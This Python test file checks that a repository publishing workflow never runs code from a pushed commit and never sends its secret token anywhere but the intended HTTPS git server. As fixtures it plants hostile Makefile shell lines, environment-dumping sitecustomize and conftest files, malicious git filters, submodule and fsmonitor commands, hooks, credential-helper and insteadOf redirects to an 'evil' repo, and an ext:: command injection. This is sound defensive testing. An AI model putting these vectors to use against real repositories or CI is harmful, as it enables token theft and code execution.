"""The workflow `open`, step by step: nothing of the published commit runs, and the token stays with git."""

from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from tests.support import mirror as mirrors
from tests.support.git_server import GitServer, git_server
from tests.support.mirror import Mirror
from tests.support.repo import Generate
from tests.support.workflow import Runner

pytestmark = pytest.mark.xdist_group("open-workflow")
TOKEN = "t0ken" * 30  # so long that base64 would break its line
# What writes the canary wherever anything of the commit runs; it notes the token if it can see it.
CANARY = "canary"
_SHELL = (
    f'(env; git push "$(git config remote.origin.url)" HEAD:refs/heads/pushed) >> "${CANARY.upper()}" 2>&1'
)
_MAKE = f"$(shell {_SHELL.replace('$', '$$')})\n"
_PYTHON = f"import os\nopen(os.environ['{CANARY.upper()}'], 'a').write(repr(os.environ))\n"
HOSTILE = {
    "Makefile": f"{_MAKE}include platform-kit/make/domain.mk\n",
    "open-kit/zz.mk": _MAKE,
    "GNUmakefile": f"{_MAKE}setup:\n",
    "json.py": _PYTHON,
    "sitecustomize.py": _PYTHON,
    "conftest.py": _PYTHON,
    "src/sitecustomize.py": _PYTHON,
    "src/flights/__init__.py": _PYTHON,
    "platform-kit/src/platform_kit/__init__.py": _PYTHON,
    "open-kit/src/open_kit/__init__.py": _PYTHON,
    "pyproject.toml": "[project]\nname = 'evil'\nversion = '1'\n[build-system]\nrequires = ['evil']\n",
    "uv.lock": "version = 1\n",
    ".pre-commit-config.yaml": "repos: [{repo: local, hooks: [{id: x, name: x, entry: touch x}]}]\n",
    ".gitattributes": "* filter=evil diff=evil merge=evil export-subst ident\n",
    ".gitmodules": "[submodule 'x']\n\tpath = x\n\turl = https://localhost:1/evil.git\n\tupdate = !touch x\n",
    ".gitconfig": "[core]\n\tfsmonitor = touch x\n",
}


@dataclass
class World:
    """A domain repo, where it is pushed to, its public repo on a server, and a runner of its workflow."""

    mirror: Mirror
    server: GitServer
    runner: Runner
    canary: Path

    @property
    def address(self) -> str:
        return self.server.address("public.git")

    def push(self, branch: str = "main") -> str:
        """Push the last commit; its name."""
        self.mirror.git("push", "--quiet", "--force", str(self.runner.origin), f"HEAD:refs/heads/{branch}")
        return self.mirror.git("rev-parse", "HEAD")

    def write(self, files: dict[str, str]) -> None:
        for path, text in files.items():
            self.mirror.write(path, text)

    def settings(self, old: str, new: str) -> None:
        """Change domain.toml."""
        file = self.mirror.repo.path / "domain.toml"
        assert old in file.read_text()
        file.write_text(file.read_text().replace(old, new))

    def published(self) -> list[str]:
        """The names of the public commits, newest first."""
        return self.mirror.open("log", "--format=%H", "main").split()

    def assert_nothing_ran(self) -> None:
        assert not self.canary.exists(), self.canary.read_text()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[GitServer]:
    with git_server(tmp_path_factory.mktemp("server")) as server:
        yield server


@pytest.fixture(scope="module")
def original(generate: Generate, server: GitServer, tmp_path_factory: pytest.TempPathFactory) -> Mirror:
    """The first publication is made, by hand."""
    mirror = mirrors.make(generate, tmp_path_factory.mktemp("original"), server.address("public.git"))
    mirror.published()
    return mirror


@pytest.fixture
def world(original: Mirror, server: GitServer, tmp_path: Path) -> World:
    """A copy of the original, with its own runner and its own repos on the server."""
    mirror = mirrors.copied(original, tmp_path, server.address("public.git"))
    server.folder = tmp_path
    server.redirects.clear()
    server.requests.clear()
    for name in ("evil", "origin"):
        mirror.repo.done("git", "init", "--quiet", "--bare", str(tmp_path / f"{name}.git"))
    (tmp_path / "runs").mkdir()
    workflow = tmp_path / "open.yml"
    workflow.write_text((mirror.repo.path / ".github/workflows/open.yml").read_text())
    canary = tmp_path / CANARY
    variables = {"GIT_SSL_CAINFO": str(server.certificate), CANARY.upper(): str(canary)}
    context = {"vars.PUBLIC_REPOSITORY": server.address("public.git"), "secrets.PUBLIC_TOKEN": TOKEN}
    runner = Runner(workflow, tmp_path / "origin.git", tmp_path / "runs", context, variables)
    world = World(mirror, server, runner, canary)
    world.push()
    return world


def test_a_merge_is_planned_and_published(world: World) -> None:
    world.mirror.write("README.md", "# changed\n")
    world.mirror.commit()
    commit = world.push()
    plan = world.runner.run("plan", commit)
    assert plan.passed, plan.printed
    assert plan.outputs["nothing_to_publish"] == "false"
    assert plan.outputs["tool"] in world.mirror.message()
    assert plan.outputs["digest"] in plan.summary
    verify = world.runner.run("verify", commit, without="Verify")
    assert verify.passed, verify.printed
    publish = world.runner.run("publish", commit)
    assert publish.passed, publish.printed
    assert len(world.published()) == 2
    assert world.mirror.open("show", "main:README.md") == "# changed"
    assert world.mirror.message().strip().endswith(f"Open-Digest: {plan.outputs['digest']}")
    assert world.server.with_credentials() == {"public.git"}
    assert TOKEN not in publish.printed
    again = world.runner.run("plan", commit)
    assert again.outputs["nothing_to_publish"] == "true"


def test_nothing_of_the_commit_runs_when_it_is_published(world: World) -> None:
    world.write(HOSTILE)
    world.mirror.commit()
    commit = world.push()
    plan = world.runner.run("plan", commit)
    world.assert_nothing_ran()
    assert "Makefile" in plan.summary
    world.runner.context["needs.plan.outputs.digest"] = "0" * 64
    publish = world.runner.run("publish", commit)
    world.assert_nothing_ran()
    assert publish.outcomes["Install"] == "success"
    assert (publish.outcomes["Prepare"], publish.outcomes["Push"]) == ("failure", "skipped")
    verify = world.runner.run("verify", commit, without="Verify")
    assert verify.passed, verify.printed
    world.assert_nothing_ran()
    assert len(world.published()) == 1
    assert not world.server.with_credentials()


@pytest.mark.parametrize(
    "path", ["Makefile", "GNUmakefile", "open-kit/zz.mk", "platform-kit/src/platform_kit/__init__.py"]
)
def test_what_is_hostile_would_run_if_the_commit_were_not_left(world: World, path: str) -> None:
    """So the other tests would notice."""
    workflow = world.runner.workflow.read_text()
    world.runner.workflow.write_text(workflow.replace("git checkout --quiet --detach", "true"))
    world.write({path: HOSTILE[path]})
    world.mirror.commit()
    world.runner.run("plan", world.push())
    assert world.canary.exists()


def test_nothing_of_a_pull_request_runs_when_it_is_shown(world: World) -> None:
    world.mirror.git("checkout", "--quiet", "-b", "change")
    world.write(HOSTILE)
    world.mirror.write("src/flights/more.py", '"""More."""\n')
    world.mirror.commit()
    world.mirror.git("checkout", "--quiet", "main")
    world.mirror.git("merge", "--quiet", "--no-ff", "--message", "Merge", "change")
    commit = world.push("merge")
    preview = world.runner.run("preview", commit)
    world.assert_nothing_ran()
    assert "src/flights/more.py" in preview.outputs["markdown"], preview.printed
    assert preview.outputs["markdown"].strip() == preview.summary.strip()


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("/public.git", "/evil.git"),
        ("localhost", "127.0.0.1"),
        ("https://", "http://"),
        ("https://", "https://user:pass@"),
        ('branch = "main"', 'branch = "other"'),
    ],
)
def test_another_address_in_the_commit_gets_neither_the_token_nor_a_plan(
    world: World, old: str, new: str
) -> None:
    world.settings(old, new)
    world.mirror.commit()
    commit = world.push()
    plan = world.runner.run("plan", commit)
    assert plan.outcomes["Show"] == "failure"
    assert "error: " in plan.printed
    assert "Traceback" not in plan.printed
    assert "pass@" not in plan.printed
    world.runner.context["needs.plan.outputs.digest"] = "0" * 64
    publish = world.runner.run("publish", commit)
    assert (publish.outcomes["Prepare"], publish.outcomes["Push"]) == ("failure", "skipped")
    assert not world.server.with_credentials()
    assert {path.split("/")[1] for path, _ in world.server.requests} == {"public.git"}


def change(world: World) -> str:
    """Plan a change of a public file; the name of the commit."""
    world.mirror.write("README.md", "# changed\n")
    world.mirror.commit()
    commit = world.push()
    plan = world.runner.run("plan", commit)
    assert plan.passed, plan.printed
    world.server.requests.clear()
    return commit


def test_a_redirect_does_not_get_the_token(world: World) -> None:
    commit = change(world)

    def redirect(_: Path) -> None:
        world.server.redirects["public.git"] = world.server.address("evil.git")

    publish = world.runner.run("publish", commit, before={"Push": redirect})
    assert publish.outcomes["Prepare"] == "success"
    assert publish.outcomes["Push"] == "failure"
    assert world.server.with_credentials() == {"public.git"}
    assert {path.split("/")[1] for path, _ in world.server.requests} == {"public.git"}
    assert TOKEN not in publish.printed


def test_settings_of_the_machine_do_not_send_the_token_elsewhere(world: World) -> None:
    def configure(temporary: Path) -> None:
        hooks = temporary / "home/hooks"
        hooks.mkdir()
        for name in ("pre-push", "reference-transaction"):
            (hooks / name).write_text(f"#!/bin/sh\n{_SHELL}\n")
            (hooks / name).chmod(0o755)
        evil = world.server.address("evil.git")
        (temporary / "home/.gitconfig").write_text(
            f'[url "{evil}"]\n\tinsteadOf = {world.address}\n\tpushInsteadOf = {world.address}\n'
            f"[core]\n\thooksPath = {hooks}\n[http]\n\tfollowRedirects = true\n\tproxy = http://localhost:9\n"
            f"[credential]\n\thelper = !f() {{ {_SHELL}; }}; f\n"
        )

    publish = world.runner.run("publish", change(world), before={"Push": configure})
    assert publish.passed, publish.printed
    assert world.server.with_credentials() == {"public.git"}
    world.assert_nothing_ran()
    assert len(world.published()) == 2


@pytest.mark.parametrize("protocol", ["http", "ssh", "ext", "file"])
def test_the_token_goes_over_https_only(world: World, protocol: str) -> None:
    addresses = {
        "http": world.address.replace("https", "http"),
        "ssh": "ssh://localhost/public.git",
        "ext": f"ext::sh -c {_SHELL}",
        "file": str(world.mirror.public),
    }

    def configure(_: Path) -> None:
        world.runner.context["vars.PUBLIC_REPOSITORY"] = addresses[protocol]

    publish = world.runner.run("publish", change(world), before={"Push": configure})
    assert publish.outcomes["Push"] == "failure"
    assert "not allowed" in publish.printed
    world.assert_nothing_ran()
    assert len(world.published()) == 1
